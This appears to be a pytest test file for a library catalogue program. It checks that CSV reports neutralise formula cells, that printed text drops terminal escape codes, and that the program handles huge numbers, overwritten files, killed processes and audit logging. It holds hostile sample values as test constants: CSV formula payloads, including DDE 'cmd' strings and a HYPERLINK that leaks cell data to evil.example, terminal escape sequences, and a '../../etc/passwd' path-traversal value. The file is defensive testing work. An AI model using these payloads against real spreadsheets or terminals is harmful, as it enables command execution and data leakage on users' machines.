"""Smaller holes an insider finds: formulas in CSV cells, letters that overwrite each other,
terminal codes in printed text, unaudited exports, half-built catalogues, orphan workers and
tracebacks for huge numbers or a closed pipe."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest

from readingroom import borrowers, catalogue, circulation, reports, staff, stocktake
from readingroom.reports import Options
from tests.core.cli_support import PASSWORD
from tests.core.inspection_support import Calendar

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile(db, supervisor, monkeypatch) -> date:
    """A catalogue whose every text field a librarian can type starts a formula: works,
    borrowers, an override reason, a return note, a stocktake signer and a location."""
    calendar = Calendar(monkeypatch, date(2026, 10, 1))
    lib = staff.add_staff(supervisor, "lib", "librarian", PASSWORD, "Desk Librarian").user
    work = catalogue.add_work(supervisor, title=HYPERLINK, author=COMMAND, translator=MINUS).work
    other = catalogue.add_work(supervisor, title=AT_SUM, author=TAB).work
    for n in range(1, 4):
        catalogue.add_copy(supervisor, work.id, f"H{n}", location=CR)
    catalogue.add_copy(supervisor, other.id, "H9", location=MINUS)
    borrowers.add_borrower(supervisor, "W1", name=AT_SUM, role="writer", organisation=MINUS)
    borrowers.add_borrower(supervisor, "C1", name=HYPERLINK, role="cadre", organisation=COMMAND)
    circulation.lend(lib, "H1", "W1")
    circulation.lend(supervisor, "H2", "C1", override_reason=HYPERLINK)
    circulation.lend(lib, "H9", "W1")
    circulation.return_copy(lib, "H9", condition="ragged", note=COMMAND)
    calendar.shift(40)
    stocktake.start(lib)
    stocktake.scan(lib, "H3", MINUS)
    stocktake.close(supervisor, AT_SUM)
    return calendar.day


@pytest.mark.parametrize("kind", reports.KINDS)
def test_no_csv_cell_of_any_report_starts_a_formula(hostile, tmp_path, kind):
    out = tmp_path / f"{kind}.csv"
    # the register of exceptions is dated by when its entries were written: the computer's
    # clock, which the fixture's calendar does not move
    end = max(hostile, date.today()) if kind == "exceptions" else hostile
    options = Options(today=hostile, start=date(2026, 1, 1), end=end)
    written = reports.write(kind, "csv", out, options)
    assert written.rows > 0
    with out.open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
    assert dangerous == []
    neutralised = [c for c in cells if c.startswith("'")]
    assert neutralised, f"the {kind} report shows none of the hostile text"
    assert all(c[1:].startswith(FORMULA_STARTS) for c in neutralised)
    # the text itself is kept whole behind its quote
    known = {HYPERLINK, COMMAND, AT_SUM, MINUS, TAB, CR}
    assert {c[1:] for c in neutralised} <= known


def test_numbers_stay_numbers_in_csv():
    from readingroom.reports.base import csv_value

    assert csv_value(-3) == "-3"
    assert csv_value(2.5) == "2.5"
    assert csv_value("-3") == "'-3"
    assert csv_value(None) == ""
    assert csv_value(True) == "yes"


def test_the_bundles_csv_files_are_neutralised_too(hostile, tmp_path):
    from readingroom import bundle

    options = Options(today=hostile, start=date(2026, 1, 1), end=hostile)
    boss = staff.authenticate("boss", PASSWORD)  # signed in: the bundle is signed
    exported = bundle.export_bundle(boss, tmp_path / "bundle", None, options)
    files = sorted((tmp_path / "bundle").glob("*.csv"))  # the union's CSVs among them
    assert len(files) == len(reports.KINDS) + 4, exported.skipped
    for path in files:
        with path.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)] == []


# -- text shown back must not act ----------------------------------------------------------

ANSI_TITLE = "\x1b[2J\x1b[H RECALLED \x1b]0;owned\x07\x1b[31mred\x9b0m\u202eevil\x07\x08"
ANSI_USER = "\x1b[1;31mroot\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07"
ACTING = ("\x1b", "\x9b", "\x07", "\x08", "\u202e")


@pytest.fixture
def cli(db, supervisor, capsys, monkeypatch):
    from tests.core.cli_support import InProcess

    return InProcess(db, capsys, monkeypatch)


def test_search_prints_a_title_without_its_terminal_codes(cli, supervisor):
    catalogue.add_work(supervisor, title=ANSI_TITLE, author="\x1b[5mBlink")
    run = cli("search", "RECALLED")
    assert run.code == 0, run
    assert "RECALLED" in run.out and "red" in run.out and "Blink" in run.out
    assert not [c for c in ACTING if c in run.out + run.err]
    as_json = cli("search", "RECALLED", "--json")
    assert not [c for c in ACTING if c in as_json.out]
    assert as_json.json()["results"][0]["title"] == ANSI_TITLE  # the data kept, escaped


def test_audit_list_prints_a_failed_sign_in_name_without_its_codes(cli):
    failed = cli("search", "x", user=ANSI_USER)
    assert failed.code == 5
    assert not [c for c in ACTING if c in failed.out + failed.err]
    run = cli("audit", "list")
    assert run.code == 0, run
    assert "root" in run.out and "sign-in" in run.out
    assert not [c for c in ACTING if c in run.out + run.err]


# -- huge and negative numbers, a closed pipe ----------------------------------------------

HUGE = "99999999999999999999999"


@pytest.mark.parametrize(
    "args",
    [
        ("search", "a", "--limit", HUGE),
        ("search", "a", "--limit", "-1"),
        ("audit", "list", "--limit", HUGE),
        ("audit", "list", "--limit", "-5"),
        ("report", "inspection", "--stocktake", HUGE, "--out", "{tmp}/r.csv"),
        ("report", "inspection", "--stocktake", "-1", "--out", "{tmp}/r.csv"),
        ("policy", "set", "writer", "lendable", "loan", "--days", HUGE),
        ("import", "marc", "x.mrc", "--copies", HUGE),
    ],
)
def test_a_number_out_of_range_is_a_plain_message(cli, tmp_path, args):
    from tests.core.cli_support import dump

    before = dump(cli.db)
    run = cli(*(a.format(tmp=tmp_path) for a in args))
    assert run.code == 1, run
    assert "Traceback" not in run.err and "whole number from 0" in run.err
    assert not (tmp_path / "r.csv").exists()
    assert dump(cli.db) == before


def test_every_integer_option_of_every_command_is_bounded():
    import argparse

    from readingroom.cli import build_parser

    def walk(parser):
        for action in parser._actions:
            if isinstance(action, argparse._SubParsersAction):
                for sub in action.choices.values():
                    yield from walk(sub)
            else:
                yield action

    actions = list(walk(build_parser()))
    assert not [a.dest for a in actions if a.type is int]
    bounded = [a for a in actions if getattr(a.type, "__name__", "") == "whole number"]
    assert len(bounded) >= 9


def _closed_pipe_run(db: Path, *args: str, read_first: bool) -> tuple[int, str]:
    """Run the real program with its standard output a pipe that is closed early: at once
    (the first write fails) or after the first line, like ``| head -1``."""
    import os
    import subprocess

    from tests.core.cli_support import BOSS, REPO, command

    env = {**os.environ, "READINGROOM_USER": BOSS, "READINGROOM_PASSWORD": PASSWORD}
    read_end, write_end = os.pipe()
    process = subprocess.Popen(
        [*command(), "--db", str(db), *args],
        stdout=write_end,
        stderr=subprocess.PIPE,
        env=env,
        cwd=REPO,
    )
    os.close(write_end)
    if read_first:
        with os.fdopen(read_end, "rb") as reader:
            reader.readline()
    else:
        os.close(read_end)
    _, err = process.communicate(timeout=120)
    return process.returncode, err.decode("utf-8", "replace")


@pytest.mark.parametrize("read_first", [False, True])
def test_a_closed_output_pipe_ends_quietly(db, supervisor, read_first):
    for n in range(700):
        catalogue.add_work(supervisor, title=f"A work number {n}", author="Someone")
    for args in (("search", "work", "--limit", "1000"), ("audit", "list", "--limit", "0")):
        code, err = _closed_pipe_run(db, *args, read_first=read_first)
        assert code in (0, 141), err
        assert err == "", err


# -- reports and MARC exports are audited; an existing file is kept -------------------------


def _entries(action: str) -> list[dict]:
    import json

    from readingroom.store.models import AuditEntry

    return [
        {"staff": e.staff, "entity_id": e.entity_id, **json.loads(e.details)}
        for e in AuditEntry.select().where(AuditEntry.action == action).order_by(AuditEntry.id)
    ]


def test_a_report_is_audited_with_who_kind_period_file_and_rows(cli, supervisor, tmp_path):
    work = catalogue.add_work(supervisor, title="Decameron", author="Boccaccio").work
    catalogue.add_copy(supervisor, work.id, "D1")
    staff.add_staff(supervisor, "insp", "inspector", PASSWORD, "Visiting Inspector")
    out = tmp_path / "inventory.csv"
    run = cli("report", "inventory", "--out", str(out), "--date", "2026-11-30", user="insp")
    assert run.code == 0, run
    [entry] = _entries("report-export")
    assert entry["staff"] == "insp" and entry["entity_id"] == "inventory"
    assert entry["kind"] == "inventory" and entry["format"] == "csv"
    assert entry["as_of"] == "2026-11-30" and "2026-11-30" in entry["period"]
    assert entry["file"] == str(out) and entry["rows"] == 1


def test_report_out_refuses_to_overwrite_unless_forced(cli, supervisor, tmp_path):
    from tests.core.cli_support import dump

    out = tmp_path / "loans.pdf"
    out.write_text("the inspector's copy from last week")
    before = dump(cli.db)
    run = cli("report", "loans", "--out", str(out))
    assert run.code == 1 and "already exists" in run.err and "--force" in run.err
    assert out.read_text() == "the inspector's copy from last week"
    assert dump(cli.db) == before
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
    forced = cli("report", "loans", "--out", str(out), "--force")
    assert forced.code == 0, forced
    assert out.read_bytes().startswith(b"%PDF")
    assert [e["file"] for e in _entries("report-export")] == [str(out)]


def test_export_marc_is_audited(cli, supervisor, tmp_path):
    work = catalogue.add_work(supervisor, title="Decameron", author="Boccaccio").work
    catalogue.add_copy(supervisor, work.id, "D1")
    out = tmp_path / "catalogue.mrc"
    run = cli("export", "marc", "--out", str(out))
    assert run.code == 0, run
    [entry] = _entries("marc-export")
    assert entry["staff"] == "boss" and entry["file"] == str(out)
    assert entry["format"] == "iso2709" and entry["works"] == 1 and entry["copies"] == 1


# -- letter files: one per member, written before they are recorded -------------------------

COLLIDING = ["가-1", "나-1", "A/1", "A_1", "a1", "A1"]


@pytest.fixture
def overdue_collisions(db, supervisor, legacy_code, monkeypatch) -> Calendar:
    """Six borrowers whose member numbers once made only three file names, each holding an
    overdue loan, 40 days on (a1 beside A1: stored as typed before codes were normalised)."""
    calendar = Calendar(monkeypatch, date(2026, 9, 1))
    work = catalogue.add_work(supervisor, title="Points and Lines", author="Matsumoto").work
    for n, member_no in enumerate(COLLIDING):
        catalogue.add_copy(supervisor, work.id, f"L{n}")
        added = borrowers.add_borrower(
            supervisor, f"M{n}", name=f"Borrower {member_no}", role="writer"
        )
        legacy_code(added.borrower, member_no)
        circulation.lend(supervisor, f"L{n}", member_no)
    calendar.shift(40)
    return calendar


def test_reminder_letters_never_share_a_file(overdue_collisions, supervisor, tmp_path):
    from readingroom import reminders
    from tests.core.inspection_support import pdf_text

    sent = reminders.send(supervisor, tmp_path / "letters")
    assert len(sent.reminders) == len(COLLIDING)
    assert len(set(sent.files)) == len(sent.files) == len(COLLIDING)
    assert sorted(sent.files) == sorted((tmp_path / "letters").iterdir())
    names = [path.name for path in sent.files]
    assert any("가" in name for name in names) and any("나" in name for name in names)
    for path in sent.files:  # each file holds the letter of the member it is named for
        [member_no] = [m for m in COLLIDING if f"Member {m} " in pdf_text(path) + " "]
        entries = [e for e in _entries("reminder-send") if e["member_no"] == member_no]
        assert [e["letter"] for e in entries] == [path.name]


def test_recall_letters_never_share_a_file(overdue_collisions, supervisor, tmp_path):
    from readingroom import inspection

    result = inspection.write_recall_letters(supervisor, tmp_path / "recall")
    assert len(result.files) == len(set(result.files)) == len(COLLIDING)
    assert len(list((tmp_path / "recall").iterdir())) == len(COLLIDING)


def test_a_letter_that_cannot_be_written_records_nothing(
    overdue_collisions, supervisor, tmp_path, monkeypatch
):
    from readingroom import pdf, reminders
    from readingroom.errors import EnvironmentProblem
    from readingroom.store.inspection_models import Reminder
    from tests.core.cli_support import dump

    real, calls = pdf.write_letter, []

    def fail_on_the_third(path, letters):
        calls.append(path)
        if len(calls) == 3:
            raise EnvironmentProblem(f"Cannot write {path}: No space left on device.")
        return real(path, letters)

    monkeypatch.setattr(pdf, "write_letter", fail_on_the_third)
    before = dump(_db_path())
    with pytest.raises(EnvironmentProblem):
        reminders.send(supervisor, tmp_path / "letters")
    assert Reminder.select().count() == 0 and _entries("reminder-send") == []
    assert dump(_db_path()) == before
    assert list((tmp_path / "letters").iterdir()) == []  # no letter without its record


def _db_path() -> Path:
    from readingroom.store.db import database

    return Path(database.database)


def test_member_file_part_keeps_plain_numbers_and_hangul():
    from readingroom.letter import free_path, member_file_part

    assert member_file_part("W-1001") == "W-1001"
    assert member_file_part("리-7") == "리-7"
    assert member_file_part("가-1") != member_file_part("나-1")
    assert member_file_part("A/1").startswith("A_1-") and member_file_part("A_1") == "A_1"
    assert member_file_part("../../etc/passwd").startswith("etc_passwd-")
    assert len(member_file_part("가" * 100).encode()) < 200
    assert free_path(Path(__file__)) != Path(__file__)


# -- generate and import marc leave nothing half done ---------------------------------------


def _spawn(db: Path, *args: str):
    import os
    import subprocess

    from tests.core.cli_support import BOSS, REPO, command

    env = {**os.environ, "READINGROOM_USER": BOSS, "READINGROOM_PASSWORD": PASSWORD}
    return subprocess.Popen(
        [*command(), "--db", str(db), *args],
        env=env,
        cwd=REPO,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )


def test_a_killed_generate_leaves_no_catalogue_and_a_rerun_works(tmp_path):
    import signal
    import time

    from tests.core.cli_support import run_program

    target = tmp_path / "big.db"
    size = ("--works", "60000", "--copies", "120000", "--borrowers", "3000", "--loans", "120000")
    process = _spawn(target, "generate", *size)
    deadline = time.monotonic() + 60
    while not list(tmp_path.iterdir()) and time.monotonic() < deadline:
        time.sleep(0.02)
    time.sleep(0.5)  # well into the build
    assert process.poll() is None, "the build ended before it could be killed"
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    if process.stderr is not None:
        process.stderr.close()
    assert not target.exists()  # no empty "healthy" catalogue under the name
    rerun = run_program(
        target, "generate", "--works", "30", "--copies", "60", "--borrowers", "5", "--loans", "40"
    )
    assert rerun.code == 0, rerun
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.db"]  # the leftovers gone
    assert run_program(target, "doctor").code == 0


def test_a_killed_import_leaves_no_worker_running(db, tmp_path):
    import os
    import signal
    import time

    import psutil

    data = Path(__file__).resolve().parent.parent / "data" / "marc" / "loc_records.mrc"
    records = data.read_bytes()
    big = tmp_path / "big.mrc"
    with big.open("wb") as stream:
        while stream.tell() < 24 << 20:
            stream.write(records)
    if (os.cpu_count() or 1) < 2:
        pytest.skip("one core: the import maps records in its own process")
    process = _spawn(db, "import", "marc", str(big))
    parent = psutil.Process(process.pid)
    workers: list[psutil.Process] = []
    deadline = time.monotonic() + 60
    while len(workers) < 2 and time.monotonic() < deadline and process.poll() is None:
        workers = [
            p
            for p in parent.children(recursive=True)
            if "resource_tracker" not in " ".join(p.cmdline())
        ]
        time.sleep(0.05)
    assert len(workers) >= 2, "no worker processes were started"
    time.sleep(0.5)  # they are busy mapping
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    if process.stderr is not None:
        process.stderr.close()
    try:
        _gone, alive = psutil.wait_procs(workers, timeout=10)
        assert alive == [], f"{len(alive)} worker(s) still running after the import died"
    finally:
        for worker in workers:
            if worker.is_running():
                worker.kill()
